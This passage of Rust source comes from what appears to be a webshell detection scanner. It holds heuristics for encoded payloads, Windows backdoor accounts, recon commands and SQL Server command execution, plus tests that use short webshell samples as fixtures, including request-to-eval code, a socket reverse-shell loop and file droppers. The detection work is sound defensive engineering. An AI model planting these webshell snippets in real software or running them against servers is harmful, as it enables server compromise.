        if !sheets.contains(&object) {
            continue;
        }
        let rest = &t[q + ".load".len()..];
        let rest = rest.strip_prefix("xml").unwrap_or(rest);
        if !rest.starts_with([' ', '(', '\t']) {
            continue;
        }
        let line = near(rest, 512);
        let line = line[..line.find(['\n', ':']).unwrap_or(line.len())].trim_start();
        let line = line.strip_prefix('(').unwrap_or(line);
        if from_request(line) {
            return Some(q - object.len());
        }
        // Or a variable set from the request in the 64 KiB before (the first 16 read).
        let held = ident(line);
        if held.is_empty() || variables_read == 16 {
            continue;
        }
        variables_read += 1;
        let window = &t[t.floor_char_boundary(q.saturating_sub(65_536))..q];
        let set = find_all(window, held).take(100).any(|v| {
            plain_name_at(window, v)
                && window[v + held.len()..]
                    .trim_start_matches([' ', '\t'])
                    .strip_prefix('=')
                    .is_some_and(|rhs| from_request(near(rhs, 128).lines().next().unwrap_or("")))
        });
        if set {
            return Some(q - object.len());
        }
    }
    None
}

/// A long unbroken run of base64 or hex in a server script, worse when the script also
/// evaluates or writes something.
fn encoded_blob(t: &str, kind: ScriptKind, hits: &mut Vec<Hit>) {
    let (best, best_at) = crate::decode::base64_runs(t.as_bytes())
        .map(|(start, end)| (end - start, start))
        .fold((0, 0), |a, r| if r.0 > a.0 { r } else { a });
    if best < 2048 {
        return;
    }
    // Data URIs (images, fonts) are long base64 too, and harmless.
    let from = t.ceil_char_boundary(best_at.saturating_sub(40));
    let before = &t[from..best_at];
    if before.contains("data:") || before.contains("base64,") {
        return;
    }
    let runs_code = match kind {
        ScriptKind::Php => {
            [
                "eval(",
                "assert(",
                "create_function(",
                "preg_replace(",
                "include",
                "require",
            ]
            .iter()
            .any(|s| {
                contains_call(t, s)
                    || (s.starts_with('i') || s.starts_with('r'))
                        && t.contains(&format!("{s}(\"data:"))
            }) || t.contains("gzinflate(")
                || t.contains("base64_decode(")
        }
        ScriptKind::Jsp => t.contains("defineclass") || t.contains("base64"),
        ScriptKind::Asp => t.contains("frombase64string") || t.contains("eval"),
    };
    if runs_code {
        hits.push(hit(
            "scan.heuristic.encoded_payload",
            Severity::High,
            "Long encoded payload that the script decodes",
            format!("an unbroken encoded blob of {best} characters in a script that also decodes or evaluates data: the usual packaging of an obfuscated webshell"),
            best_at,
        ));
    }
}

/// A page that opens the server to its own remote login: a Windows account made and put in
/// the Administrators group (`net user x p /add` with `net localgroup administrators x /add`,
/// or ADSI's `GetObject("WinNT://…").Create("user", …)`), or Remote Desktop turned on
/// (`fDenyTSConnections` written). The "add admin" and "open 3389" buttons of webshells; a web
/// application that lists accounts (server probes walk `WinNT://`) or rejects these words in
/// an injection filter does neither.
fn windows_backdoors(t: &str, hits: &mut Vec<Hit>) {
    // `net user NAME PASS /add` on one line: a command, not a word in a filter's list.
    let command_adds = |command: &str| {
        find_all(t, command).take(1000).any(|p| {
            let line = near(&t[p..], 200);
            line[..line.find(['\n', '|']).unwrap_or(line.len())].contains("/add")
        })
    };
    let adsi = find(t, "winnt://").is_some()
        && (find(t, ".create(\"user\"").is_some()
            || find(t, ".create \"user\"").is_some()
            || find(t, ", \"user\")").is_some() && find(t, "children.add(").is_some());
    if (adsi || command_adds("net user ")) && command_adds("localgroup administrators")
        || adsi && find(t, "administrators").is_some()
    {
        let at = find(t, "winnt://")
            .filter(|_| adsi)
            .or_else(|| find(t, "net user "))
            .unwrap_or(0);
        let mut h = hit(
            "scan.heuristic.windows_account",
            Severity::High,
            "Page creates a Windows administrator account",
            "the page makes a Windows account and adds it to the Administrators group (`net user … /add`, ADSI's `WinNT://` provider): a login of the attacker's own on the server".into(),
            at,
        );
        h.attack.push("T1136.001".into());
        hits.push(h);
    }
    // Serv-U's local administration port, spoken to from the page: `SITE MAINTENANCE` then
    // `-SETUSERSETUP` makes an FTP account that runs commands as SYSTEM (`-Maintenance=System`),
    // the privilege escalation bundled in ASP and PHP toolkits. Only the tool speaks it.
    if let Some(at) = find(t, "-setusersetup")
        && find(t, "site maintenance").is_some()
    {
        let mut h = hit(
            "scan.heuristic.servu_escalation",
            Severity::High,
            "Page makes a Serv-U account that runs as SYSTEM",
            "the page sends Serv-U's local administration commands (`SITE MAINTENANCE`, `-SETUSERSETUP`): an FTP account with system maintenance rights, whose `SITE EXEC` runs commands as SYSTEM".into(),
            at,
        );
        h.attack.push("T1068".into());
        hits.push(h);
    }
    if let Some(at) = find(t, "fdenytsconnections")
        && ["regwrite", "setvalue(", "reg add", "set-itemproperty"]
            .iter()
            .any(|w| find(t, w).is_some())
    {
        let mut h = hit(
            "scan.heuristic.rdp_enable",
            Severity::High,
            "Page turns on Remote Desktop",
            "the page writes the `fDenyTSConnections` registry value that turns Remote Desktop on: a way into the server's desktop for whoever holds an account".into(),
            at,
        );
        h.attack.push("T1021.001".into());
        hits.push(h);
    }
}

/// Commands that tour a Windows host: its connections, processes, network setup, accounts
/// and the user the site runs as.
const RECON_COMMANDS: &[&str] = &[
    "netstat",
    "tasklist",
    "ipconfig",
    "whoami",
    "systeminfo",
    "query user",
    "quser",
    "arp -a",
    "net start",
    "net user",
    "net localgroup",
];

/// Calls that run a command line, in the languages the pages are written in (lowercase).
const RUN_CALLS: &[&str] = &[
    ".exec(",
    ".exec ",
    ".run(",
    ".run ",
    "shell_exec(",
    "system(",
    "passthru(",
    "popen(",
    "exec(",
    "process.start(",
    "processstartinfo(",
    "processbuilder(",
];

/// A page that runs two or more of [`RECON_COMMANDS`] (of those it `named`) itself (`sh.Exec("netstat -ano")`,
/// `shell_exec('whoami')`): the reconnaissance page of a toolkit, showing the attacker the
/// host's connections, processes and accounts. An application that needs one command runs
/// one; these words in a list or in text are not run.
fn recon_commands(t: &str, named: &[&'static str], hits: &mut Vec<Hit>) {
    if named.len() < 2 {
        return;
    }
    let mut run: Vec<&str> = Vec::new();
    let mut first = None;
    for command in named {
        let Some(p) = find_all(t, command).take(1000).find(|&p| {
            // The command opens a string literal (`"netstat`, `'cmd /c tasklist`) …
            let before = &t[t.floor_char_boundary(p.saturating_sub(120))..p];
            let opened = before
                .trim_end_matches("cmd /c ")
                .trim_end_matches("cmd.exe /c ")
                .trim_end_matches("/c ");
            if !opened.ends_with(['"', '\'']) {
                return false;
            }
            // … that is the command of a run call on the same line.
            let line = &opened[opened.rfind('\n').map_or(0, |n| n + 1)..opened.len() - 1];
            RUN_CALLS.iter().any(|c| {
                line.trim_end()
                    .trim_end_matches(['(', ' '])
                    .ends_with(c.trim_end_matches(['(', ' ']))
            })
        }) else {
            continue;
        };
        first = Some(first.map_or(p, |f: usize| f.min(p)));
        run.push(command);
    }
    if run.len() < 2 {
        return;
    }
    let listed = run
        .iter()
        .map(|c| format!("`{c}`"))
        .collect::<Vec<_>>()
        .join(", ");
    let mut h = hit(
        "scan.heuristic.recon_commands",
        Severity::High,
        "Page runs commands that survey the host",
        format!(
            "the page itself runs {listed}: the reconnaissance page of a webshell toolkit, showing whoever opens it the server's connections, processes, network and accounts"
        ),
        first.unwrap_or(0),
    );
    h.attack.push("T1082".into());
    hits.push(h);
}

/// SQL Server's ways to reach the operating system: `xp_cmdshell` runs a command,
/// `sp_OACreate`/`sp_OAMethod` drive `WScript.Shell` from SQL, `sp_makewebtask` writes a file
/// (a page) with a query's output, `xp_regwrite` edits the registry. A page that carries such
/// SQL runs commands through the database; a web application has no use for them (a filter
/// that lists `xp_cmdshell` among words to reject names it bare, without `exec`).
fn database_commands(t: &str, hits: &mut Vec<Hit>) {
    let run_by_name = find_all(t, "xp_cmdshell").take(1000).find(|&p| {
        let before = t[t.floor_char_boundary(p.saturating_sub(32))..p]
            .trim_end_matches(|c: char| c.is_whitespace() || c == '[' || c == '"' || c == '\'');
        ["master..", "master.dbo.", "exec", "execute"]
            .iter()
            .any(|w| before.ends_with(w))
    });
    let procedure = [
        "sp_oacreate",
        "sp_oamethod",
        "sp_makewebtask",
        "xp_regwrite",
    ]
    .iter()
    .find_map(|n| find(t, n).map(|p| (p, *n)));
    // `EXEC sp_configure 'xp_cmdshell', 1`: the command procedures switched back on.
    let enabled = || {
        find_all(t, "sp_configure").take(1000).find_map(|p| {
            // The option named first, quoted or bracketed as SQL allows.
            let option = near(&t[p + "sp_configure".len()..], 64)
                .trim_start()
                .trim_start_matches(['\'', '"', '[', 'n'])
                .trim_start_matches('\'');
            ["xp_cmdshell", "ole automation procedures"]
                .iter()
                .find(|w| option.starts_with(**w))
                .map(|w| (p, *w))
        })
    };
    let (at, what) = match (run_by_name, procedure) {
        (Some(p), _) => (p, "xp_cmdshell"),
        (None, Some((p, n))) => (p, n),
        (None, None) => match enabled() {
            Some((p, "xp_cmdshell")) => (p, "sp_configure 'xp_cmdshell'"),
            Some((p, _)) => (p, "sp_configure 'Ole Automation Procedures'"),
            None => return,
        },
    };
    let mut h = hit(
        "scan.heuristic.database_command",
        Severity::High,
        "Script carries SQL that reaches the operating system",
        format!(
            "the script holds SQL Server's `{what}`, which runs commands, drives WScript.Shell, writes files or edits the registry from a query: a webshell's way to the host through the database"
        ),
        at,
    );
    h.attack.push("T1059".into());
    hits.push(h);
}

/// The start of a Windows (`MZ`) or Linux (`\x7fELF`) program, hex-encoded or in base64 as
/// the lowercased page reads them, with the kind of program it is.
const PROGRAM_HEADERS: &[(&str, bool, &str)] = &[
    ("4d5a", true, "Windows"),
    ("7f454c46", true, "Linux (ELF)"),
    ("tvqq", false, "Windows"),
    ("tvpq", false, "Windows"),
    ("tvoa", false, "Windows"),
    ("f0vmr", false, "Linux (ELF)"),
];

/// Encoded characters, at least, of a program kept in a page: a UDF library for MySQL, a
/// privilege-escalation tool or a backdoor, to be written to disk and loaded or run.
const PROGRAM_LITERAL: usize = 1024;

/// `"0x4d5a9000…"`, `'TVqQAAMAAAAE…'`: a string literal that holds a whole program. Pages
/// carry images and fonts that way, never executables.
fn embedded_program(t: &str, hits: &mut Vec<Hit>) {
    let b = t.as_bytes();
    for (header, hex, what) in PROGRAM_HEADERS {
        for at in memchr::memmem::find_iter(b, header.as_bytes()).take(1000) {
            // The literal starts with the header: after a quote, or `0x` for MySQL's hex.
            let opens = at.checked_sub(1).is_some_and(|p| {
                matches!(b[p], b'"' | b'\'') || (b[p] == b'x' && p > 0 && b[p - 1] == b'0')
            });
            if !opens {
                continue;
            }
            let run = b[at..]
                .iter()
                .take(PROGRAM_LITERAL)
                .take_while(|&&c| {
                    if *hex {
                        c.is_ascii_hexdigit()
                    } else {
                        crate::decode::BASE64_BYTE[usize::from(c)]
                    }
                })
                .count();
            if run < PROGRAM_LITERAL {
                continue;
            }
            hits.push(hit(
                "scan.heuristic.embedded_program",
                Severity::High,
                "A program kept inside the script",
                format!(
                    "a string literal of {} holds a {what} executable (it starts with the program header): a binary carried in the page, to be written to disk and loaded or run (a MySQL UDF library, an exploit, a backdoor)",
                    if *hex { "hex digits" } else { "base64" }
                ),
                at,
            ));
            return;
        }
    }
}

/// Shannon entropy of the bytes in bits per byte.
pub fn entropy(data: &[u8]) -> f64 {
    let mut counts = [0u64; 256];
    for &b in data {
        counts[usize::from(b)] += 1;
    }
    let n = data.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// Source code packed into a few very long, high-entropy lines.
fn packed(data: &[u8], hits: &mut Vec<Hit>) {
    if data.len() < 4096 {
        return;
    }
    let lines = memchr::memchr_iter(b'\n', data).count() + 1;
    let avg = data.len() / lines;
    if avg <= 1000 {
        return;
    }
    let e = entropy(data);
    if e > 5.6 {
        hits.push(Hit {
            check: "scan.heuristic.packed",
            severity: Severity::Medium,
            title: "Packed or obfuscated script".into(),
            why: format!("{lines} line(s) averaging {avg} bytes with an entropy of {e:.2} bits per byte: code squeezed to be unreadable (minified libraries look like this too)"),
            attack: vec!["T1027".into()],
            offset: None,
            rule: None,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_kept_in_a_page() {
        let udf = format!(
            "<?php function udf() {{ return \"0x4d5a9000{}\"; }} mysql_query('select ' . udf() . ' into dumpfile \"c:/udf.dll\"');",
            "03".repeat(600)
        );
        assert!(ids(ScriptKind::Php, &udf).contains(&"scan.heuristic.embedded_program"));
        let elf = format!(
            "<% byte[] b = Base64.decode(\"f0VMRgIBAQ{}\"); %>",
            "A".repeat(1100)
        );
        assert!(ids(ScriptKind::Jsp, &elf).contains(&"scan.heuristic.embedded_program"));
        // Short, broken off, or not at the start of a literal: not a program.
        for page in [
            format!("<?php $h = \"4d5a{}\";", "0".repeat(900)),
            format!(
                "<?php $h = \"4d5a{}zz{}\";",
                "0".repeat(500),
                "0".repeat(900)
            ),
            format!("<?php $h = \"ab4d5a{}\";", "0".repeat(2000)),
        ] {
            assert!(!ids(ScriptKind::Php, &page).contains(&"scan.heuristic.embedded_program"));
        }
    }

    #[test]
    fn command_function_fallbacks() {
        let bot = "<?php\nfunction ex($c) {\n if (function_exists('exec')) { @exec($c, $r); }\n elseif (function_exists(\"shell_exec\")) { $r = shell_exec($c); }\n elseif (is_callable('system')) { system($c); }\n}";
        let found = scan_script(ScriptKind::Php, bot.as_bytes());
        let h = found
            .iter()
            .find(|h| h.check == "scan.heuristic.exec_fallbacks")
            .expect("fallbacks");
        assert!(
            h.why.contains("`exec`, `shell_exec`, `system`"),
            "{}",
            h.why
        );
        // Behind a page of other questions.
        let padded = format!(
            "<?php\n{}{}",
            "if (function_exists('mb_substr')) {}\n".repeat(300),
            &bot["<?php\n".len()..]
        );
        assert!(ids(ScriptKind::Php, &padded).contains(&"scan.heuristic.exec_fallbacks"));
        // Asking without running: a server-health page.
        let health = "<?php\nforeach (['exec', 'shell_exec', 'system'] as $f) {}\n$ok = function_exists('exec') && function_exists('shell_exec') && is_callable('system');\necho $ok ? 'ok' : 'disabled';";
        assert!(!ids(ScriptKind::Php, health).contains(&"scan.heuristic.exec_fallbacks"));
        // One command function looked for, or other functions: what applications do.
        let app = "<?php\nif (function_exists('exec')) { exec('convert a.png b.jpg'); }\nif (function_exists('mb_strlen') && function_exists('iconv') && is_callable('curl_init')) {}";
        assert!(!ids(ScriptKind::Php, app).contains(&"scan.heuristic.exec_fallbacks"));
        // The chain as a loop over the names, each asked about and the first enabled one run.
        let looped = "<?php\nfunction run_any($c) {\n foreach (['system', 'passthru', 'shell_exec', 'exec'] as $fn) {\n  if (function_exists($fn)) { return $fn($c); }\n }\n}";
        assert!(ids(ScriptKind::Php, looped).contains(&"scan.heuristic.exec_fallbacks"));
        // The same loop only reporting which are enabled.
        let report = "<?php\nforeach (['system', 'passthru', 'exec'] as $fn) {\n echo $fn, function_exists($fn) ? ' on' : ' off';\n}";
        assert!(!ids(ScriptKind::Php, report).contains(&"scan.heuristic.exec_fallbacks"));
    }

    #[test]
    fn variables_are_named_whole_with_their_places() {
        let found: Vec<_> = variables("$$a = $_GET['x'] . $b1;$").collect();
        assert_eq!(found, [(1, "$a"), (6, "$_GET"), (19, "$b1")]);
    }

    fn ids(kind: ScriptKind, s: &str) -> Vec<&'static str> {
        scan_script(kind, s.as_bytes())
            .iter()
            .map(|h| h.check)
            .collect()
    }

    #[test]
    fn input_through_loops_properties_and_decryption() {
        let each = "<?php\n$m = $_GET;\nforeach ($m as $k => $v) { if ($k == 'q') { $c = $v; } }\necho shell_exec($c);";
        assert_eq!(ids(ScriptKind::Php, each), ["scan.heuristic.input_to_exec"]);
        // The method that runs the property comes before the line that fills it.
        let property = "<?php\nclass L { public $code; function __destruct() { @eval($this->code); } }\n$o = new L();\n$o->code = $_POST['z'];";
        assert_eq!(
            ids(ScriptKind::Php, property),
            ["scan.heuristic.input_to_exec"]
        );
        let sliced = "<?php $s = $_SERVER['HTTP_USER_AGENT']; if (substr($s, 0, 4) == 'x9k:') { eval(substr($s, 4)); }";
        assert_eq!(
            ids(ScriptKind::Php, sliced),
            ["scan.heuristic.input_to_exec"]
        );
        let parsed = "<?php parse_str($_SERVER['QUERY_STRING']); if (isset($x)) { eval($x); }";
        assert!(!ids(ScriptKind::Php, parsed).is_empty());
        let ticks = "<?php $h = getallheaders(); $c = $h['X-Run']; echo `$c`;";
        assert_eq!(ids(ScriptKind::Php, ticks), ["scan.heuristic.backticks"]);
        let decrypted = "<?php\n$d = openssl_decrypt(file_get_contents('php://input'), 'aes-128-cbc', $k);\n$f = create_function('', $d);\n$f();";
        assert_eq!(
            ids(ScriptKind::Php, decrypted),
            ["scan.heuristic.input_to_exec"]
        );
        // A loop over fixed values, a property filled from the request but only printed, a
        // create_function whose body is the script's own.
        for page in [
            "<?php\nforeach (array('ls', 'id') as $v) { echo shell_exec($v); }\n$q = $_GET['q'];",
            "<?php\nclass F { public $name; function show() { echo htmlspecialchars($this->name); system('date'); } }\n$f = new F(); $f->name = $_POST['name'];",
            "<?php\n$a = $_GET['a'];\n$cmp = create_function('$x,$y', 'return $x - $y;');\nusort($list, $cmp);",
            // Backticks in Markdown of a comment, around a variable of the script's own.
            "<?php $c = $_GET['c']; $v = 'x';\n$doc = \"use `$v` here\";",
        ] {
            assert!(ids(ScriptKind::Php, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn commands_read_from_a_socket_and_run() {
        let page = "<?php\n$sockfd = fsockopen($ip , $port , $errno, $errstr );\nwhile(!feof($sockfd)) {\n$command = trim(fgets($sockfd, $len));\nfputs($sockfd , \"\\n\" . shell_exec($command) . \"\\n\");\n}";
        assert_eq!(
            ids(ScriptKind::Php, page),
            ["scan.heuristic.php_reverse_shell"]
        );
        // A mail client reads the server's replies and runs nothing.
        let smtp = "<?php\n$s = fsockopen('mail', 25);\n$reply = trim(fgets($s, 512));\nif (substr($reply, 0, 3) != '220') { exec('logger smtp'); }";
        assert!(ids(ScriptKind::Php, smtp).is_empty());
    }

    #[test]
    fn a_request_body_parsed_as_json_is_request_input() {
        let page = "<?php\n$post = json_decode(file_get_contents('php://input'), true);\nif (function_exists($post['cmd'])) {\n    $post['cmd']($cwd, $post['args']);\n}";
        assert_eq!(
            ids(ScriptKind::Php, page),
            ["scan.heuristic.request_function"]
        );
    }

    #[test]
    fn script_encoded_asp_is_read_decoded() {
        let page = format!(
            "<%@ LANGUAGE = VBScript.Encode %><%{}%>",
            crate::decode::tests::screnc("ExecuteGlobal request(\"LandGrey\")")
        );
        let hits = scan_script(ScriptKind::Asp, page.as_bytes());
        let eval = hits
            .iter()
            .find(|h| h.check == "scan.heuristic.asp_eval")
            .expect("the decoded Execute of request input");
        assert!(
            eval.why.contains("1 Script Encoder block(s), 1 confirmed"),
            "{}",
            eval.why
        );
        // Offsets in the decoded text would point at the wrong bytes of the file.
        assert_eq!(eval.offset, None);
        // Encoded benign code stays quiet.
        let benign = format!(
            "<%@ LANGUAGE = VBScript.Encode %><%{}%>",
            crate::decode::tests::screnc(&"Response.Write Now()\r\n".repeat(400))
        );
        assert!(scan_script(ScriptKind::Asp, benign.as_bytes()).is_empty());
    }

    #[test]
    fn jsp_process_from_reflection_or_an_expression() {
        let reflect = "<% String s2 = request.getParameter(\"cmd\");\nprocess = (Process) MethodUtil.invoke(method, o, new Object[]{s2.split(\" \")}); %>";
        assert!(ids(ScriptKind::Jsp, reflect).contains(&"scan.heuristic.jsp_hidden_process"));
        let el = "<% String cmd = request.getParameter(\"x\");\nProcess p = (Process)ve.getValue(elCtx); %>";
        assert!(ids(ScriptKind::Jsp, el).contains(&"scan.heuristic.jsp_hidden_process"));
        // A process kept in the session and read back, and a cast with no request input.
        let kept = "<% String id = request.getParameter(\"id\");\nProcess p = (Process) jobs.remove(id); %>";
        assert!(!ids(ScriptKind::Jsp, kept).contains(&"scan.heuristic.jsp_hidden_process"));
        let no_input = "<% Process p = (Process) m.invoke(o); %>";
        assert!(!ids(ScriptKind::Jsp, no_input).contains(&"scan.heuristic.jsp_hidden_process"));
    }

    #[test]
    fn php_input_in_brackets_or_cast_is_still_input() {
        let plain = ids(
            ScriptKind::Php,
            "<?php $cmd = $_REQUEST['cmd']; system($cmd);",
        );
        assert!(!plain.is_empty());
        for page in [
            "<?php $cmd = ($_REQUEST['cmd']); system($cmd);",
            "<?php $cmd = @(string) $_REQUEST['cmd']; system($cmd);",
        ] {
            assert_eq!(ids(ScriptKind::Php, page), plain, "{page}");
        }
    }

    #[test]
    fn php_sinks_behind_a_wrapper_function() {
        let shell = "<?php\nfunction abc($x){\n@assert($x);\n}\nabc($_REQUEST['c']);\n?>";
        assert!(ids(ScriptKind::Php, shell).contains(&"scan.heuristic.wrapped_sink"));
        let typed =
            "<?php function run(string $cmd) { return shell_exec( $cmd ); }\necho run($_GET['c']);";
        assert!(ids(ScriptKind::Php, typed).contains(&"scan.heuristic.wrapped_sink"));
        // Called with a variable that holds the input, whole or joined; a closure in a variable.
        for page in [
            "<?php function run($c) { return shell_exec($c); }\n$c = $_GET['c'];\necho run($c);",
            "<?php function run($c) { @eval($c); }\n$p = $_POST;\nrun($p['z']);",
            "<?php function run($c) { system($c); }\n$c = $_GET['c'];\nrun('ls ' . $c);",
            "<?php $x = filter_input(INPUT_POST, 'x');\n$f = function ($s) { return system($s); };\n$f($x);",
        ] {
            assert!(
                ids(ScriptKind::Php, page).contains(&"scan.heuristic.wrapped_sink"),
                "{page}"
            );
        }
        let escaped = "<?php function run($c) { system($c); }\n$c = $_GET['c'];\nrun('ls ' . escapeshellarg($c));";
        assert!(!ids(ScriptKind::Php, escaped).contains(&"scan.heuristic.wrapped_sink"));
        // A wrapper called with a constant, and input given to a function without a sink.
        // Multi-byte text around the cut points of the body and the call.
        let wide = format!(
            "<?php function w($c) {{ eval($c); /*{}*/ }} w($_GET['x'] . \"{}\");",
            "é".repeat(1500),
            "é".repeat(300)
        );
        assert!(ids(ScriptKind::Php, &wide).contains(&"scan.heuristic.wrapped_sink"));
        let quiet = "<?php function up($c) { return system($c); } up('uptime'); function show($v) { echo htmlspecialchars($v); } show($_GET['q']);";
        assert!(!ids(ScriptKind::Php, quiet).contains(&"scan.heuristic.wrapped_sink"));
    }

    #[test]
    fn php_request_file_writes() {
        let dropper = "<?php\nif ($_POST)\n{\n$f=fopen($_POST[\"f\"],\"w\");\nif(fwrite($f,$_POST[\"c\"]))\necho 'OK';\n}";
        assert!(ids(ScriptKind::Php, dropper).contains(&"scan.heuristic.php_file_drop"));
        let put = "<?php file_put_contents($_GET['n'], $_POST['body']);";
        assert!(ids(ScriptKind::Php, put).contains(&"scan.heuristic.php_file_drop"));
        // A cache written from request data under a fixed name; a log named by the request
        // but holding fixed text; a read of a request-named file.
        for quiet in [
            "<?php file_put_contents('/tmp/cache.txt', $_POST['body']);",
            "<?php $h = fopen('log/' . $_GET['day'] . '.log', 'a'); fwrite($h, \"visit\\n\");",
            "<?php $h = fopen($_GET['f'], 'r'); echo fread($h, 100);",
        ] {
            assert!(
                !ids(ScriptKind::Php, quiet).contains(&"scan.heuristic.php_file_drop"),
                "{quiet}"
            );
        }
    }

    #[test]
    fn request_input_joined_into_what_runs() {
        let flagged = [
            "<?php $d = $_GET['x'];\nsystem(\"ls \" . $d);",
            "<?php $d = $_GET['x'];\nsystem(\"ls $d\");",
            "<?php $d = $_GET['x'];\n$e = $d . ' 2>&1';\nsystem($e);",
            "<?php $c = \"ls \" . $_GET['x'];\nsystem($c);",
            "<?php $a = array('-c', $_GET['x']);\npcntl_exec('/bin/sh', $a);",
            "<?php $d = $_POST['x'];\npcntl_exec('/bin/sh', ['-c', $d]);",
            "<?php $c = $_POST['c'];\n$f = sprintf('%s 2>&1', $c);\necho shell_exec($f);",
            "<?php $p = explode('|', $_COOKIE['d']);\nexec(implode(' ', $p), $o);",
            "<?php $k = $_SERVER['HTTP_X_K'];\n$code = 'return ' . $k . ';';\neval($code);",
        ];
        for page in flagged {
            assert_eq!(
                ids(ScriptKind::Php, page),
                ["scan.heuristic.input_to_exec"],
                "{page}"
            );
        }
        // Escaped, cast, counted, run by a database method, or only in a comment.
        let quiet = [
            "<?php $f = $_GET['f'];\n$c = 'convert ' . escapeshellarg($f);\nexec($c);",
            "<?php $a = escapeshellarg($_POST['h']);\nexec('ping -c 1 ' . $a, $o);",
            "<?php $id = (int)$_GET['id'];\nexec('php w.php ' . $id);",
            "<?php $n = intval($_GET['n']);\nexec(\"sleep $n\");",
            "<?php $q = $_GET['q'];\n$s = 'DELETE FROM t WHERE a = ' . $q;\n$db->exec($s);",
            "<?php $f = 'do_' . $_GET['op'];\nif (function_exists($f)) { echo 1; }",
            "<?php /*\n$db = $_GET['db'];\n$cmd = \"pg_dump $db\";\n// $res = shell_exec($cmd);\n*/",
            "<?php /*\n$db = $_GET['db'];\n$cmd = \"pg_dump $db\";\n$res = `$cmd`;\n*/ echo '/*';",
            "<?php $v = 'v' . 1.5;\nsystem('ls');",
        ];
        for page in quiet {
            let found = ids(ScriptKind::Php, page);
            assert!(
                !found.contains(&"scan.heuristic.input_to_exec")
                    && !found.contains(&"scan.heuristic.backticks"),
                "{page}: {found:?}"
            );
        }
        // Input carried by a branch, a destructuring or a parsed query string.
        let carried = [
            (
                "<?php $q = $_POST;\n$c = isset($q['c']) ? $q['c'] : 'id';\npassthru($c);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php list($a, $b) = explode(':', base64_decode($_COOKIE['s']));\necho `$b`;",
                "scan.heuristic.backticks",
            ),
            (
                "<?php [$k, $c] = explode('|', $_GET['p']);\nsystem($c);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php [$m['k'], $c] = explode('|', $_GET['p']);\nsystem($c);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php parse_str($_SERVER['QUERY_STRING'], $p);\necho shell_exec($p['q']);",
                "scan.heuristic.input_to_exec",
            ),
        ];
        for (page, check) in carried {
            assert_eq!(ids(ScriptKind::Php, page), [check], "{page}");
        }
        // Input kept in an array element, a property or a static property, or walked in a list.
        let kept = [
            "<?php $GLOBALS['x'] = $_GET['c'];\nsystem($GLOBALS['x']);",
            "<?php $a['k']['j'] = $_GET['c'];\nsystem($a['k']['j']);",
            "<?php A::$c = $_POST['c'];\necho shell_exec(A::$c);",
            "<?php $o->c = $_GET['c'];\n$x = $o->c . ' 2>&1';\necho shell_exec($x);",
            "<?php foreach ([$_GET['a']] as $c) { echo shell_exec($c); }",
        ];
        for page in kept {
            assert_eq!(
                ids(ScriptKind::Php, page),
                ["scan.heuristic.input_to_exec"],
                "{page}"
            );
        }
        let kept_quiet = [
            "<?php $d['id'] = (int)$_GET['id'];\nexec('w ' . $d['id']);",
            "<?php $row['name'] = $_POST['name'];\necho htmlspecialchars($row['name']);",
            "<?php $o->q = escapeshellarg($_GET['q']);\nexec('grep ' . $o->q);",
        ];
        for page in kept_quiet {
            assert!(ids(ScriptKind::Php, page).is_empty(), "{page}");
        }
        // The test reads input, the command does not; a null-safe call is no branch.
        let fixed = [
            "<?php $c = $_GET['a'] == 'y' ? 'ls' : 'pwd';\nsystem($c);",
            "<?php $c = $o?->name;\nsystem('ls');",
        ];
        for page in fixed {
            assert!(ids(ScriptKind::Php, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn input_added_in_pieces_in_heredocs_objects_and_callbacks() {
        let flagged = [
            (
                "<?php $d = $_POST['x'];\n$o = '';\nfor ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ 'k'; }\neval($o);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php\n$cmd = <<<CMD\n{$_POST['q']} 2>&1\nCMD;\necho shell_exec($cmd);",
                "scan.heuristic.input_to_exec",
            ),
            // A shell started bare, fed the request on its standard input.
            (
                "<?php $fp = popen('/bin/sh', 'w');\nfwrite($fp, $_REQUEST['q'] . \"\\n\");\npclose($fp);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $p = proc_open(['bash', '-s'], [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $pipes);\nfwrite($pipes[0], file_get_contents('php://input'));",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $q = $_GET['q'];\n$c = <<<\"EOT\"\n    ls $q\n    EOT;\nsystem($c);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php class R { private $l;\nfunction __construct(string $l = '') { $this->l = $l; }\nfunction go() { passthru($this->l); } }\n$r = new R($_REQUEST['l']); $r->go();",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $s = $_REQUEST;\n$k = array_keys($s)[0];\n$v = $s[$k];\n$k($v);",
                "scan.heuristic.request_function",
            ),
            (
                "<?php function h($m) { return `$m[1]`; }\necho preg_replace_callback('/(.+)/', 'h', $_POST['z']);",
                "scan.heuristic.wrapped_sink",
            ),
            (
                "<?php function r($c) { system($c); }\narray_map(\"r\", array($_GET['c']));",
                "scan.heuristic.wrapped_sink",
            ),
            (
                "<?php\nsystem(\"ls {$_GET['c']}\");",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $x = $_REQUEST['x'];\n$y = \"{$x}\";\nassert($y);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $d = $_POST['d'];\npreg_match('/^(\\w+):(.*)$/', $d, $m);\nif ($m[1] == 'run') echo shell_exec($m[2]);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $c = stream_get_contents(fopen('php://input', 'rb'));\n$o = json_decode($c);\necho shell_exec($o->cmd);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php $data = explode(',', $_GET['q']);\n$func = array_shift($data);\necho call_user_func_array($func, $data);",
                "scan.heuristic.php_callback",
            ),
            (
                "<?php function get($k) { return isset($_REQUEST[$k]) ? $_REQUEST[$k] : null; }\n$c = get('c');\nif ($c) passthru($c);",
                "scan.heuristic.input_to_exec",
            ),
            (
                "<?php function arg($k) { return $_POST[$k] ?? ''; }\nsystem(arg('c'));",
                "scan.heuristic.input_to_exec",
            ),
            (
